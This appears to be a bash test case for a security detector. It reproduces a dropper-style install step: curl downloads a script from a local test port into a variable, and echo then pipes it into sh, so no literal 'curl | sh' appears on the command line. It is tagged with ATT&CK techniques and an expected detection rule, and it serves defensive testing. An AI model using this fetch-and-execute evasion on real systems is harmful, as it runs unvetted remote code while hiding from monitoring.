#!/bin/bash
# technique: T1105 Ingress Tool Transfer; T1059.004 Command and Scripting Interpreter: Unix Shell
# reproduces: install steps that fetch an installer into a variable, look at it, then feed it to a shell (`script=$(curl -fsSL URL); echo "$script" | bash`), the shape droppers borrow so that no `curl | sh` appears on any command line
# expect: download-piped-to-shell ^(da)?sh$
# exec-borne: yes
#
# curl's output goes into the shell's memory through $(...); a builtin
# echo, in a fork that runs no program, writes it into sh's stdin.
set -u

installer=$(curl -fsSL --connect-timeout 5 "http://127.0.0.1:${BW_ATTACK_PORT:?}/install.sh") || exit 1
case $installer in
'#!'*) ;;
*) echo "not a script" >&2; exit 1 ;;
esac
lines=$(printf '%s\n' "$installer" | wc -l)
echo "installer: $lines lines"
echo "$installer" | sh
